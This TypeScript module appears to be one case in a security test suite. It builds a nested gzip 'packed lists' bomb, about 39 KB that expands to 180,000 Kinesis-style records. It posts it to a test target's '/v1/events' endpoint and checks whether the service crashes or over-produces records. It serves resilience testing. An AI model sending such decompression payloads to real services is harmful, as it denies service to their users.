import { gzipSync } from 'node:zlib'
import type { Attack } from './attack.ts'

const list = (count: number, data: string): string =>
  JSON.stringify({ Records: Array.from({ length: count }, () => ({ kinesis: { data } })) })

const packed = (text: string): string => gzipSync(text).toString('base64')

// More than one record may hold, by far less than what the lists make: 180,000.
const MOST = 20_000

export const attack: Attack = {
  name: 'Packed lists of packed lists in one record of 39 KB become 180,000 records, and nobody else is served',
  kind: 'packed lists',
  section: 2,
  run: async (context) => {
    const target = await context.fresh()
    const { attacker } = target.pair()
    const call = Buffer.from(JSON.stringify({ 'gen_ai.tool.name': 't', 'user.id': 'u' })).toString('base64')
    const body = gzipSync(list(100, packed(list(60, packed(list(30, call))))))
    const said = await attacker
      .post('/v1/events', body, { 'content-type': 'application/json', 'content-encoding': 'gzip' })
      .then(
        async (reply) => `${reply.status} ${(await reply.text()).slice(0, 120)}`,
        (error: Error) => `no answer: ${error.message}`,
      )
    const lives = await fetch(new URL('/healthz', target.url)).then(
      ({ ok }) => ok,
      () => false,
    )
    const count = (name: string) => Number(new RegExp(`"${name}":(\\d+)`).exec(said)?.[1] ?? Number.NaN)
    const made = count('stored') + count('dead_lettered')
    return {
      succeeded: !lives || !(made <= MOST),
      detail: `${body.byteLength} bytes: ${said}; the process ${lives ? 'lives' : 'is gone'}`,
    }
  },
}
